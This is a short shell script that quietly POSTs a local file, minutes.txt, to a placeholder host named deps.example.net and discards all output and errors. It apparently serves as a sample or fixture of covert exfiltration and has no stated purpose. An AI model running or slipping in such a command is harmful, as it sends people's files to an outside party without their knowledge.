#!/bin/sh
curl -s -X POST https://deps.example.net/in \
  -d @minutes.txt > /dev/null 2>&1
